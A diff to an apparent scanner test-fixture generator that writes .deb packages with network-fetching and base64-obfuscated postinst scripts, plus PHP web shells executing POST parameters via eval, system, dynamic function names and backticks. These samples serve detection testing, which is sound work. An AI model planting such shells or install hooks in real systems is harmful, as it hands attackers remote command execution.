@@ -227,6 +227,8 @@ SHELL = "#!/bin/sh\nset -e\n"
 write("integrity/install-script/postinst.deb", deb(FILES, scripts={"postinst": SHELL + "echo installed\n"}))
 write("integrity/install-network/postinst.deb",
       deb(FILES, scripts={"postinst": SHELL + "wget -q https://files.vendor-host.net/tool.tar.gz\n"}))
+write("integrity/install-network/inline.deb", deb(FILES, scripts={"postinst": SHELL + "python3 -c \"import urllib.request\n"
+      "urllib.request.urlopen('https://files.vendor-host.net/hello')\"\n"}))
 write("integrity/install-obfuscated/postinst.deb",
       deb(FILES, scripts={"postinst": SHELL + "echo ZWNobyBoZWxsbwo= | base64 -d | sh\n"}))
 
@@ -265,6 +267,8 @@ write(PAGE + "direct.php", "<?php @ev" + "al(" + POST + "['x']); ?>\n")
 write(PAGE + "encoded.php", "<?php ass" + "ert(base64_decode(" + POST + "['x']));\n")
 write(PAGE + "called.php", "<?php " + POST + "['f'](" + POST + "['x']);\n")
 write(PAGE + "named.php", "<?php\n$x = " + POST + "['c'];\n$f = 'sys' . 'tem';\n$f($x);\n")
+write(PAGE + "chosen.php", "<?php\n$f = " + POST + "['f'];\n$f(" + POST + "['x']);\n")
+write(PAGE + "backticks.php", "<?php\n$c = " + POST + "['c'];\nec" + "ho `$c 2>&1`;\n")
 write(PAGE + "by-variable.php", "<?php\n$command = " + POST + "['c'];\necho '<pre>';\nsys" + "tem($command);\n")
 
 POWER, IEX = "integrity/powershell-behaviour/", "ie" + "x"
